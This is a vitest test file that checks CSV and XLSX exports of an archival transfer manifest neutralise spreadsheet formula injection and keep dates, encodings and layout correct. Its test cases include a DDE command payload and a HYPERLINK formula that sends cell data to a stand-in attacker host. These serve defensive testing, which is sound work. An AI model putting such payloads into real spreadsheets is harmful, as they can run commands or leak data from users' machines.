import { afterAll, describe, expect, it } from 'vitest';
import * as XLSX from 'xlsx';
import { manifestFingerprint } from '../../../electron/exchange/fingerprint';
import { folderColumns } from '../../../shared/exchange/manifest-columns';
import { csvField, manifestToCsv } from '../../../shared/exchange/manifest-csv';
import { manifestToXlsx } from '../../../shared/exchange/manifest-xlsx';
import { looksLikeFormula, neutraliseFormula } from '../../../shared/exchange/spreadsheet-safety';
import { HOSTILE_FOLDERS, LONG_TITLE, sampleManifest } from '../documents/fixtures/sample-manifest';
import { parseCsv } from '../documents/fixtures/csv-reader';
import { missingTools, run, SYSTEM_PYTHON, tempDir } from '../documents/fixtures/tools';

const manifest = sampleManifest();
const fingerprint = manifestFingerprint(manifest);
const folderCount = manifest.boxes.reduce((sum, box) => sum + box.folders.length, 0);
const temp = tempDir('manifest-sheets');
afterAll(() => temp.remove());

describe('formula neutralisation', () => {
  const cases: [string, string][] = [
    ['=1+1', "'=1+1"],
    ['+44 20', "'+44 20"],
    ['-10', "'-10"],
    ['@SUM(1,2)', "'@SUM(1,2)"],
    ['\tTAB', "'\tTAB"],
    ['\rCR', "'\rCR"],
    ['=cmd|\' /C calc\'!A0', "'=cmd|' /C calc'!A0"],
    ['Plain title', 'Plain title'],
    ['A=1', 'A=1'],
    [' =1', ' =1'],
    ['', ''],
    ["'already quoted", "'already quoted"],
  ];
  it.each(cases)('%j becomes %j', (input, expected) => {
    expect(neutraliseFormula(input)).toBe(expected);
    expect(looksLikeFormula(neutraliseFormula(input))).toBe(false);
  });
});

describe('manifest.csv', () => {
  const bytes = manifestToCsv(manifest);
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);

  it('is UTF-8 with a byte order mark and CRLF line ends', () => {
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.includes('Zoë Ångström building permit')).toBe(true);
  });

  it('reads back, with an RFC 4180 reader, as the header and one row per folder, formulas neutralised', () => {
    const rows = parseCsv(text.slice(1));
    expect(rows[0]).toEqual(folderColumns.map((column) => column.header));
    expect(rows).toHaveLength(folderCount + 1);
    expect(rows.every((row) => row.length === folderColumns.length)).toBe(true);
    const titles = rows.slice(1).map((row) => row[4]);
    expect(titles).toContain(LONG_TITLE);
    expect(titles).toContain('Minutes, "special" session; comma, quote');
    expect(titles).toContain('Line one\nline two');
    for (const hostile of HOSTILE_FOLDERS) expect(titles).toContain(neutraliseFormula(hostile.title!));
    for (const row of rows) for (const field of row) expect(looksLikeFormula(field), field).toBe(false);
    expect(rows[1].slice(0, 4)).toEqual(['PW-2026-003-001', "Zoë's permits 2019", '1 of 3', '1']);
  });

  it('quotes only what needs quoting', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField(12)).toBe('12');
  });

  it.skipIf(missingTools(SYSTEM_PYTHON).length > 0)('reads the same in Python\'s csv module', () => {
    const file = temp.write('manifest.csv', bytes);
    const script = "import csv,json,sys\nwith open(sys.argv[1], newline='', encoding='utf-8-sig') as f: print(json.dumps(list(csv.reader(f))))";
    expect(JSON.parse(run(SYSTEM_PYTHON, ['-c', script, file]))).toEqual(parseCsv(text.slice(1)));
  });
});

describe('manifest.xlsx', () => {
  const bytes = manifestToXlsx(manifest, fingerprint);

  it('holds no formula anywhere in its XML', () => {
    const container = XLSX.CFB.read(bytes, { type: 'array' });
    const sheets = (container.FullPaths as string[]).map((path, index) => [path, container.FileIndex[index]] as const)
      .filter(([path]) => /worksheets\/sheet\d+\.xml$/.test(path));
    expect(sheets).toHaveLength(3);
    for (const [, entry] of sheets) {
      const xml = new TextDecoder().decode(entry.content);
      expect(xml).not.toMatch(/<f[ >]/);
      expect(xml).toContain('state="frozen"');
    }
  });

  it.skipIf(missingTools('openpyxl').length > 0)('opens in openpyxl with the right sheets, rows, dates and no formulas', () => {
    const file = temp.write('manifest.xlsx', bytes);
    const script = `
import json, sys, datetime, openpyxl
wb = openpyxl.load_workbook(sys.argv[1])
out = {'sheets': wb.sheetnames, 'freeze': {}, 'headers': {}, 'rows': {}, 'formulas': [], 'unsafe': [], 'widths': {}}
for ws in wb.worksheets:
    out['freeze'][ws.title] = ws.freeze_panes
    out['headers'][ws.title] = [c.value for c in ws[1]]
    out['rows'][ws.title] = ws.max_row
    out['widths'][ws.title] = [ws.column_dimensions[k].width for k in sorted(ws.column_dimensions)]
    for row in ws.iter_rows():
        for c in row:
            if c.data_type == 'f': out['formulas'].append(c.coordinate)
            if isinstance(c.value, str) and c.value[:1] in ('=', '+', '-', '@', '\\t', '\\r'): out['unsafe'].append(c.value)
f = wb['Folders']
head = [c.value for c in f[1]]
def cell(row, name):
    v = f.cell(row=row, column=head.index(name) + 1).value
    return v.isoformat() if isinstance(v, (datetime.date, datetime.datetime)) else v
out['folder2'] = {n: cell(2, n) for n in ('Title as written', 'Begin date', 'End date', 'Disposition date')}
out['folder3'] = {n: cell(3, n) for n in ('Begin date', 'End date')}
out['folder4'] = {n: cell(4, n) for n in ('Begin date', 'File code')}
out['folder5'] = {n: cell(5, n) for n in ('Begin date',)}
out['beginTypes'] = [type(c.value).__name__ for c in f['I'][1:4]]
out['hostile'] = [f.cell(row=r, column=head.index('Title as written') + 1).value for r in range(2, f.max_row + 1)]
t = {r[0].value: r[1].value for r in wb['Transfer'].iter_rows(min_row=2)}
out['transfer'] = {k: (v.isoformat() if isinstance(v, datetime.datetime) else v) for k, v in t.items() if k in ('Transfer number', 'Boxes', 'Fingerprint (SHA-256 of manifest.json, RFC 8785)', 'Dates from', 'Department', 'Created (UTC)', 'Sent (UTC)')}
print(json.dumps(out))
`;
    const result = JSON.parse(run(SYSTEM_PYTHON, ['-c', script, file]));
    expect(result.sheets).toEqual(['Transfer', 'Boxes', 'Folders']);
    expect(result.freeze).toEqual({ Transfer: 'A2', Boxes: 'A2', Folders: 'A2' });
    expect(result.headers.Folders).toEqual(folderColumns.map((column) => column.header));
    expect(result.headers.Boxes.slice(0, 3)).toEqual(['Box ID', 'Box', 'Box label']);
    expect(result.rows).toMatchObject({ Boxes: manifest.boxes.length + 1, Folders: folderCount + 1 });
    expect(result.formulas).toEqual([]);
    expect(result.unsafe).toEqual([]);
    expect(result.widths.Folders.every((width: number) => width >= 8 && width <= 64)).toBe(true);
    // A day is a real date; a month, a year or a fiscal year stays the text the department wrote.
    expect(result.folder2).toEqual({
      'Title as written': 'Zoë Ångström building permit, 12 Harbour Street',
      'Begin date': '2019-03-15T00:00:00', 'End date': '2019-11-30T00:00:00', 'Disposition date': '2023-01-01T00:00:00',
    });
    expect(result.folder3).toEqual({ 'Begin date': '2019-03', 'End date': '2019-12' });
    expect(result.folder4).toEqual({ 'Begin date': 'FY2019', 'File code': 'BP-東京' });
    expect(result.folder5).toEqual({ 'Begin date': '2019' });
    expect(result.beginTypes).toEqual(['datetime', 'str', 'str']);
    expect(result.hostile).toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`);
    expect(result.hostile).toContain("'\tTabbed title");
    // The carriage return that made it a formula start is a line break in the cell, after the neutralising quote.
    expect(result.hostile).toContain("'\nCarriage return title");
    expect(result.hostile).toContain(LONG_TITLE);
    expect(result.transfer).toEqual({
      'Transfer number': 'PW-2026-003', Boxes: 3, 'Fingerprint (SHA-256 of manifest.json, RFC 8785)': fingerprint,
      'Dates from': '2010', Department: 'Ærøskøbing Public Works',
      // Real date-times (UTC), to the second.
      'Created (UTC)': manifest.transfer.createdAt.slice(0, 19), 'Sent (UTC)': manifest.transfer.sentAt!.slice(0, 19),
    });
  });
});
